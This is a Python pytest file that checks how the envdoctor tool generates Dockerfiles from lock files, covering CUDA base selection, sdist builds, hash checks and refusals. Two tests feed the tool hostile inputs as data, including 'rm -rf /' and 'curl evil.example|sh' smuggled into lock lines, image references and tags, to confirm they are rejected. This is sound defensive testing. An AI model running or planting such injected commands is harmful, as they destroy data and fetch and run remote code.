"""``envdoctor dockerfile`` without an engine: what it chooses, what it refuses, what it writes."""

from __future__ import annotations

import hashlib
import json
import re
import shutil
import subprocess
import sys
import tarfile
from pathlib import Path

import pytest

from envdoctor.cli import main
from envdoctor.errors import InputError
from envdoctor.image import record_wheels, writer
from envdoctor.image.plan import ImageRefused, plan_builder, plan_image, split_lock
from envdoctor.image.sources import CUDA, NATIVE, PURE, SourceBuild, SourceProblem, inspect_sdist
from envdoctor.lock.model import LockedPackage, read_requirements_lock

ROOT = Path(__file__).parent.parent
IMAGES = ROOT / "images"
FIXTURES = Path(__file__).parent / "fixtures/images"
SMALL_LOCK = FIXTURES / "small/requirements.linux-x86_64-py3.11.txt"
FROM_SOURCE = FIXTURES / "from-source"
GOLDEN_FILES = ("Dockerfile", ".dockerignore", "build.sh", "requirements.lock")
FAKE_DIGEST = "sha256:" + "ab" * 32


def hadolint_binary() -> str:
    return shutil.which("hadolint") or str(Path(sys.executable).parent / "hadolint")


def stacks() -> list[str]:
    return sorted(path.name for path in IMAGES.iterdir() if (path / "host.json").is_file())


def regenerate(stack: str, out: Path) -> int:
    (lock,) = (IMAGES / stack / "lock").glob("requirements.*.txt")
    return main(["dockerfile", str(lock), "-o", str(out), "--host", str(IMAGES / stack / "host.json"),
                 "--tag", f"envdoctor/{stack}:1"])  # fmt: skip


@pytest.mark.parametrize("stack", stacks())
def test_reference_images_regenerate_byte_for_byte(stack: str, tmp_path: Path) -> None:
    assert regenerate(stack, tmp_path) == 0
    for name in GOLDEN_FILES:
        assert (tmp_path / name).read_bytes() == (IMAGES / stack / name).read_bytes(), f"{stack}/{name} changed"


def test_reference_stacks_are_the_promised_ones() -> None:
    assert {"cpu", "blackwell-torch", "tensorflow-and-cuda", "onnxruntime-system-cudnn"} <= set(stacks())


@pytest.mark.parametrize("stack", stacks())
def test_reference_images_pass_hadolint_and_envdoctors_own_audit(
    stack: str, capsys: pytest.CaptureFixture[str]
) -> None:
    linted = subprocess.run(
        [hadolint_binary(), str(IMAGES / stack / "Dockerfile")], capture_output=True, text=True, check=False
    )
    assert linted.returncode == 0, linted.stdout
    assert main(["audit", str(IMAGES / stack / "Dockerfile"), "--host", str(IMAGES / stack / "host.json"),
                 "--format", "json", "--fail-on", "info"]) == 0  # fmt: skip
    report = json.loads(capsys.readouterr().out)
    assert report["findings"] == []


def test_wheels_bringing_their_cuda_get_a_plain_python_base() -> None:
    dockerfile = (IMAGES / "blackwell-torch" / "Dockerfile").read_text()
    assert "FROM python:3.12-slim-bookworm@sha256:" in dockerfile
    assert "nvidia/cuda" not in dockerfile
    # torch cu128 wheels bring their CUDA: the runtime is asked for the oldest driver that runs them.
    assert 'NVIDIA_REQUIRE_CUDA="cuda>=12.0"' in dockerfile
    assert 'io.envdoctor.cuda="12.8"' in dockerfile
    assert "NVIDIA_DRIVER_CAPABILITIES=compute,utility" in dockerfile
    assert "USER 10001:10001" in dockerfile
    assert "--require-hashes --no-deps --only-binary=:all:" in dockerfile
    cpu = (IMAGES / "cpu" / "Dockerfile").read_text()
    assert "NVIDIA_" not in cpu


def test_package_names_never_reach_the_dockerfile() -> None:
    dockerfile = (IMAGES / "cpu" / "Dockerfile").read_text()
    assert "numpy" not in dockerfile and "pandas" not in dockerfile


def test_system_cuda_needs_a_cuda_base_never_devel(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    lock = tmp_path / "requirements.linux-x86_64-py3.11.txt"
    lock.write_text(
        "# Written by `envdoctor lock`; do not edit.\n# target: linux x86_64, Python 3.11 (x)\n"
        "tensorflow==2.16.1 \\\n    --hash=sha256:" + "1" * 64 + "\n"
    )
    # No digest-pinned nvidia/cuda image is in the base: the generator asks for one.
    assert main(["dockerfile", str(lock), "-o", str(tmp_path / "a")]) == 1
    assert "give --base-image" in capsys.readouterr().out
    base = f"nvidia/cuda:12.3.2-cudnn9-runtime-ubuntu22.04@{FAKE_DIGEST}"
    assert main(["dockerfile", str(lock), "-o", str(tmp_path / "b"), "--base-image", base]) == 0
    dockerfile = (tmp_path / "b" / "Dockerfile").read_text()
    assert f"FROM {base} AS build" in dockerfile
    assert "COPY --from=python /usr/local /usr/local" in dockerfile
    # Each stage that copies Debian's Python onto the Ubuntu base checks its modules load there
    # (images/README.md), writing no bytecode; a Python image needs no such check.
    checks = [line for line in dockerfile.splitlines() if "python3 -B -I -c" in line]
    assert len(checks) == dockerfile.count("COPY --from=python /usr/local /usr/local") == 2
    assert all(line.startswith("RUN ldconfig && ") and "sqlite3" in line and "ssl" in line for line in checks)
    assert "python3 -B" not in (IMAGES / "cpu" / "Dockerfile").read_text()
    # The nvidia/cuda base's own NVIDIA_REQUIRE_CUDA (with its data-center branches) is kept.
    assert "NVIDIA_REQUIRE_CUDA" not in dockerfile and 'io.envdoctor.cuda="12.3"' in dockerfile
    assert not [line for line in dockerfile.splitlines() if line.startswith("FROM") and "devel" in line]


def test_a_system_cudnn_stack_gets_the_cudnn_runtime_image_of_its_cuda_major() -> None:
    # onnxruntime-gpu 1.20 loads CUDA 12 and cuDNN 9 from the system (knowledge base).
    dockerfile = (IMAGES / "onnxruntime-system-cudnn" / "Dockerfile").read_text()
    froms = [line for line in dockerfile.splitlines() if line.startswith("FROM")]
    assert all("devel" not in line for line in froms)
    assert "FROM nvidia/cuda:12.4.1-cudnn-runtime-ubuntu22.04@sha256:" in dockerfile
    assert "NVIDIA_REQUIRE_CUDA" not in dockerfile and 'io.envdoctor.cuda="12.4"' in dockerfile


def test_system_cuda_users_that_disagree_are_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    lock = tmp_path / "requirements.linux-x86_64-py3.11.txt"
    lock.write_text(
        "# Written by `envdoctor lock`; do not edit.\n# target: linux x86_64, Python 3.11 (x)\n"
        "onnxruntime-gpu==1.18.1 --hash=sha256:" + "1" * 64 + "\n"
        "torch==2.4.1+cu124 --hash=sha256:" + "2" * 64 + "\n"
    )
    assert main(["dockerfile", str(lock), "-o", str(tmp_path / "out")]) == 1
    assert "the lock's builds need CUDA 12.4, but onnxruntime-gpu==1.18.1 load CUDA 11" in capsys.readouterr().out


@pytest.mark.parametrize(
    ("flags", "refusal"),
    [
        (["--driver", "470.86", "--gpu", "12.0"], "ED101 (driver-too-old)"),
        (["--driver", "575.57.08", "--gpu", "6.1"], "ED102 (gpu-arch-unsupported)"),
    ],
)
def test_contradictions_are_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], flags: list[str], refusal: str
) -> None:
    (lock,) = (IMAGES / "blackwell-torch" / "lock").glob("requirements.*.txt")
    code = main(["dockerfile", str(lock), "-o", str(tmp_path / "out"), "--os", "linux", "--arch", "x86_64", *flags])
    assert code == 1
    assert refusal in capsys.readouterr().out
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize(
    "line",
    [
        "evil==1.0; rm -rf / \\\n    --hash=sha256:" + "0" * 64,
        "$(curl evil.example|sh)==1.0 --hash=sha256:" + "0" * 64,
        "name==1.0 --hash=md5:abc",
        "name==1.0",
        "FROM scratch",
    ],
)
def test_hostile_lockfile_lines_are_refused(line: str) -> None:
    with pytest.raises(InputError):
        read_requirements_lock(line + "\n", "requirements.lock")


@pytest.mark.parametrize(
    ("flag", "value"),
    [
        ("--base-image", "python:3.11-slim\nRUN curl evil|sh"),
        ("--base-image", "python:3.11-slim"),
        ("--base-image", f"python:3.11;rm -rf /@{FAKE_DIGEST}"),
        ("--tag", "app:1 && rm -rf /"),
    ],
)
def test_hostile_options_are_refused(tmp_path: Path, flag: str, value: str) -> None:
    code = main(["dockerfile", str(SMALL_LOCK), "-o", str(tmp_path / "out"), flag, value])
    assert code == 2
    assert not (tmp_path / "out" / "Dockerfile").exists()


def test_wheelhouse_build_needs_no_network(tmp_path: Path) -> None:
    wheels = SMALL_LOCK.parent / "wheelhouse"
    assert main(["dockerfile", str(SMALL_LOCK), "-o", str(tmp_path), "--wheelhouse", str(wheels)]) == 0
    dockerfile = (tmp_path / "Dockerfile").read_text()
    assert "--no-index --find-links /tmp/wheelhouse" in dockerfile
    assert sorted(p.name for p in (tmp_path / "wheelhouse").iterdir()) == sorted(p.name for p in wheels.iterdir())
    assert "!wheelhouse" in (tmp_path / ".dockerignore").read_text()


def test_an_sdist_whose_build_requirements_are_not_locked_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # Recorded with envdoctor lock: antlr4-python3-runtime 4.9.3 is published as an sdist only,
    # and this lock pins no setuptools to build it with.
    (lock,) = (FIXTURES / "sdist-only").glob("requirements.*.txt")
    code = main(["dockerfile", str(lock), "-o", str(tmp_path / "out"), "--wheelhouse", str(FROM_SOURCE / "wheelhouse")])
    assert code == 1
    out = capsys.readouterr().out
    assert "antlr4-python3-runtime 4.9.3 is built from its sdist in the image" in out
    assert "needs setuptools>=40.8.0, wheel, which the lock does not pin" in out
    assert not (tmp_path / "out").exists()


def test_an_sdist_is_built_in_a_wheels_stage_and_installed_by_hash(tmp_path: Path) -> None:
    (lock,) = FROM_SOURCE.glob("requirements.*.txt")
    assert main(["dockerfile", str(lock), "-o", str(tmp_path), "--wheelhouse", str(FROM_SOURCE / "wheelhouse")]) == 0
    dockerfile = (tmp_path / "Dockerfile").read_text()
    assert "AS wheels" in dockerfile
    assert "pip wheel --require-hashes --no-deps --no-build-isolation --no-binary=:all:" in dockerfile
    assert "-r /tmp/built/built-wheels.lock --find-links /tmp/built" in dockerfile
    sources = (tmp_path / "requirements.sources.lock").read_text()
    wheels = (tmp_path / "requirements.wheels.lock").read_text()
    assert "antlr4-python3-runtime==4.9.3 --hash=sha256:f224469b" in sources and "setuptools" not in sources
    assert "setuptools==" in wheels and "antlr4" not in wheels
    assert (tmp_path / "record_wheels.py").read_text() == Path(record_wheels.__file__).read_text()
    assert "antlr4-python3-runtime-4.9.3.tar.gz" in {path.name for path in (tmp_path / "wheelhouse").iterdir()}
    linted = subprocess.run(
        [hadolint_binary(), str(tmp_path / "Dockerfile")], capture_output=True, text=True, check=False
    )
    assert linted.returncode == 0, linted.stdout


def test_an_sdist_that_does_not_match_its_locked_hash_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    wheels = tmp_path / "wheels"
    shutil.copytree(FROM_SOURCE / "wheelhouse", wheels)
    (wheels / "antlr4-python3-runtime-4.9.3.tar.gz").write_bytes(b"not the locked archive")
    (lock,) = FROM_SOURCE.glob("requirements.*.txt")
    assert main(["dockerfile", str(lock), "-o", str(tmp_path / "out"), "--wheelhouse", str(wheels)]) == 1
    assert "antlr4-python3-runtime-4.9.3.tar.gz: its sha256 does not match the lock" in capsys.readouterr().out
    assert not (tmp_path / "out").exists()


def test_a_vcs_requirement_in_the_lock_is_a_clear_error() -> None:
    line = "mylib @ git+https://github.com/example/mylib@0123456789abcdef0123456789abcdef01234567\n"
    with pytest.raises(InputError, match="mylib is locked from a URL or VCS checkout"):
        read_requirements_lock(line, "requirements.lock")


def _sdist(tmp_path: Path, files: dict[str, str], archive: str = "pkg-1.0.tar.gz") -> bytes:
    root = tmp_path / "pkg-1.0"
    for name, text in files.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text)
    with tarfile.open(tmp_path / archive, "w:gz") as tar:
        tar.add(root, arcname="pkg-1.0")
    return (tmp_path / archive).read_bytes()


@pytest.mark.parametrize(
    ("files", "requires", "compiles"),
    [
        ({"setup.py": "from setuptools import setup\nsetup()"}, ("setuptools>=40.8.0", "wheel"), PURE),
        ({"pyproject.toml": '[build-system]\nrequires = ["flit_core>=3.2,<4"]\nbuild-backend = "flit_core.buildapi"\n',
          "pkg/__init__.py": ""}, ("flit_core>=3.2,<4",), PURE),
        ({"pyproject.toml": "[project]\nname = 'pkg'\n", "src/fast.c": "int f(void){return 0;}"},
         ("setuptools>=40.8.0", "wheel"), NATIVE),
        ({"pyproject.toml": '[build-system]\nrequires = ["scikit-build-core"]\n'
                            'build-backend = "scikit_build_core.build"\n'}, ("scikit-build-core",), NATIVE),
        ({"setup.py": "from torch.utils.cpp_extension import CUDAExtension\n", "csrc/k.cu": "__global__ void k(){}"},
         ("setuptools>=40.8.0", "wheel"), CUDA),
    ],
)  # fmt: skip
def test_what_an_sdist_build_needs(
    tmp_path: Path, files: dict[str, str], requires: tuple[str, ...], compiles: str
) -> None:
    assert inspect_sdist(_sdist(tmp_path, files), "pkg-1.0.tar.gz") == (requires, compiles)


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"\x1f\x8b garbage", "not a readable sdist"),
        (None, "not valid TOML"),
    ],
)
def test_a_broken_sdist_is_refused(tmp_path: Path, data: bytes | None, message: str) -> None:
    archive = data if data is not None else _sdist(tmp_path, {"pyproject.toml": "[build-system\n"})
    with pytest.raises(SourceProblem, match=message):
        inspect_sdist(archive, "pkg-1.0.tar.gz")


def test_cuda_code_is_compiled_on_a_devel_image_in_the_wheels_stage_only() -> None:
    (lock,) = (IMAGES / "onnxruntime-system-cudnn" / "lock").glob("requirements.*.txt")
    distributions = read_requirements_lock(lock.read_text(), str(lock))
    plan = plan_image(distributions, "3.11")
    build = SourceBuild("flash-attn", "2.7.4", "flash_attn-2.7.4.tar.gz", ("setuptools>=40.8.0",), CUDA)
    builder = plan_builder(plan, [build])
    assert builder.image.name == "nvidia/cuda:12.4.1-cudnn-devel-ubuntu22.04"
    dockerfile = writer.dockerfile(plan, FAKE_DIGEST, wheelhouse=False, builder=builder)
    froms = [line for line in dockerfile.splitlines() if line.startswith("FROM")]
    assert [line for line in froms if "devel" in line] == [f"FROM {builder.image.reference} AS wheels"]
    assert "COPY --from=python /usr/local /usr/local" in dockerfile.split("AS wheels", 1)[1].split("FROM", 1)[0]


def test_cuda_code_without_a_cuda_lock_is_refused() -> None:
    distributions = read_requirements_lock(SMALL_LOCK.read_text(), str(SMALL_LOCK))
    build = SourceBuild("flash-attn", "2.7.4", "flash_attn-2.7.4.tar.gz", (), CUDA)
    with pytest.raises(ImageRefused, match="no CUDA build to compile against"):
        plan_builder(plan_image(distributions, "3.11"), [build])


def test_native_code_on_a_slim_base_is_compiled_on_the_full_python_image() -> None:
    distributions = read_requirements_lock(SMALL_LOCK.read_text(), str(SMALL_LOCK))
    build = SourceBuild("pkg", "1.0", "pkg-1.0.tar.gz", (), NATIVE)
    builder = plan_builder(plan_image(distributions, "3.11"), [build])
    assert builder.image.name == "python:3.11-bookworm" and builder.python_image is None


def test_the_lock_is_split_between_wheels_and_sources() -> None:
    text = (
        "# header\n--index-url https://pypi.org/simple\n"
        "a==1.0 \\\n    --hash=sha256:" + "1" * 64 + "\n"
        "B_c==2.0 --hash=sha256:" + "2" * 64 + "  # comment\n"
    )
    wheels, sources = split_lock(text, {"b-c"})
    assert wheels == "--index-url https://pypi.org/simple\na==1.0 --hash=sha256:" + "1" * 64 + "\n"
    assert sources == "--index-url https://pypi.org/simple\nB_c==2.0 --hash=sha256:" + "2" * 64 + "\n"


def test_built_wheels_are_recorded_by_hash(tmp_path: Path) -> None:
    (tmp_path / "b_pkg-2.0-py3-none-any.whl").write_bytes(b"b")
    (tmp_path / "a_pkg-1.0+local-cp311-cp311-linux_x86_64.whl").write_bytes(b"a")
    text = record_wheels.record(tmp_path)
    assert text == (
        f"a_pkg==1.0+local --hash=sha256:{hashlib.sha256(b'a').hexdigest()}\n"
        f"b_pkg==2.0 --hash=sha256:{hashlib.sha256(b'b').hexdigest()}\n"
    )
    assert (tmp_path / record_wheels.RECORD).read_text() == text


def test_a_wheelhouse_must_hold_every_locked_wheel(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    wheels = tmp_path / "wheels"
    wheels.mkdir()
    shutil.copy(SMALL_LOCK.parent / "wheelhouse" / "six-1.17.0-py2.py3-none-any.whl", wheels)
    assert main(["dockerfile", str(SMALL_LOCK), "-o", str(tmp_path / "out"), "--wheelhouse", str(wheels)]) == 2
    assert "no wheel for packaging==24.2" in capsys.readouterr().err
    assert not (tmp_path / "out").exists()


def test_same_inputs_same_bytes(tmp_path: Path) -> None:
    for name in ("one", "two"):
        assert regenerate("tensorflow-and-cuda", tmp_path / name) == 0
    for name in GOLDEN_FILES:
        assert (tmp_path / "one" / name).read_bytes() == (tmp_path / "two" / name).read_bytes()


@pytest.mark.network
def test_without_a_wheelhouse_the_sdist_is_read_from_its_locked_url(tmp_path: Path) -> None:
    (lock,) = FROM_SOURCE.glob("requirements.*.txt")
    assert main(["dockerfile", str(lock), "-o", str(tmp_path)]) == 0
    dockerfile = (tmp_path / "Dockerfile").read_text()
    assert "AS wheels" in dockerfile and "--no-index" not in dockerfile


def test_the_cuda_extension_fixture_is_seen_as_cuda_code() -> None:
    archive = FIXTURES / "cuda-extension" / "vecadd_demo-1.0.tar.gz"
    assert inspect_sdist(archive.read_bytes(), archive.name) == (("setuptools>=40.8.0", "wheel"), CUDA)


@pytest.mark.parametrize(
    ("stack", "comparison"),
    [
        ("onnxruntime-system-cudnn", "the same lock on nvidia/cuda:12.4.1-cudnn-devel-ubuntu22.04: about 4,604 MB"),
        ("tensorflow-and-cuda", "the same lock on a CUDA 12.3 devel base: about 6,797 MB (sized as "
         "nvidia/cuda:12.4.1-cudnn-devel-ubuntu22.04, the newest CUDA 12 devel image whose size is known)"),
    ],
)  # fmt: skip
def test_the_estimate_is_printed_beside_a_devel_based_one(
    stack: str, comparison: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert regenerate(stack, tmp_path) == 0
    out = capsys.readouterr().out
    assert comparison in out
    assert megabytes(r"estimated size: ([\d,]+) MB", out) < megabytes(r"about ([\d,]+) MB", out)


def megabytes(pattern: str, text: str) -> int:
    match = re.search(pattern, text)
    assert match is not None, text
    return int(match.group(1).replace(",", ""))


def test_a_pylock_that_disagrees_with_its_requirements_lock_is_an_error(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    for path in FROM_SOURCE.glob("*.linux-x86_64-py3.11.*"):
        shutil.copy(path, tmp_path / path.name)
    lock = tmp_path / "requirements.linux-x86_64-py3.11.txt"
    lock.write_text(lock.read_text().replace("antlr4-python3-runtime==4.9.3", "antlr4-python3-runtime==4.9.2"))
    code = main(["dockerfile", str(lock), "-o", str(tmp_path / "out"), "--wheelhouse", str(FROM_SOURCE / "wheelhouse")])
    assert code == 2
    assert "builds antlr4-python3-runtime 4.9.3, which it does not pin" in capsys.readouterr().err
    assert not (tmp_path / "out").exists()


def test_the_icarus_stack_for_its_host_is_refused() -> None:
    # The post-mortem's pins as `envdoctor lock` relabels them for the Icarus host (driver 520,
    # CUDA 11.8): torch's cu118 build, beside tensorflow 2.16.1, which loads CUDA 12.3 from the
    # system. The real lock needs the PyTorch index, which these machines cannot reach.
    pins = [line.split("==") for line in (ROOT / "examples/icarus/requirements.txt").read_text().splitlines()
            if line and not line.startswith("#")]  # fmt: skip
    relabelled = [(name, version.replace("+cu121", "+cu118")) for name, version in pins]
    distributions = [LockedPackage(name, version, ("sha256:" + "0" * 64,)) for name, version in relabelled]
    with pytest.raises(ImageRefused, match=r"need CUDA 11\.8, but tensorflow==2\.16\.1 \(without \[and-cuda\]\) load"):
        plan_image(distributions, "3.11")


def test_a_given_cuda_base_is_never_told_to_give_base_image_for_the_copied_python(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # onnxruntime-gpu loads CUDA from the system: the CUDA base is given, and the interpreter is
    # copied from python:3.19-slim, which the knowledge base has no digest for.
    lock = tmp_path / "requirements.linux-x86_64-py3.19.txt"
    lock.write_text(
        "# Written by `envdoctor lock`; do not edit.\n# target: linux x86_64, Python 3.19 (x)\n"
        "onnxruntime-gpu==1.20.2 \\\n    --hash=sha256:" + "1" * 64 + "\n"
    )
    base = f"nvidia/cuda:12.4.1-cudnn-runtime-ubuntu22.04@{FAKE_DIGEST}"
    assert main(["dockerfile", str(lock), "-o", str(tmp_path / "out"), "--base-image", base]) == 1
    out = capsys.readouterr().out
    assert "to copy the interpreter from into the CUDA base: lock for a Python it has one for (3.10," in out
    assert "give --base-image" not in out
    assert not (tmp_path / "out").exists()
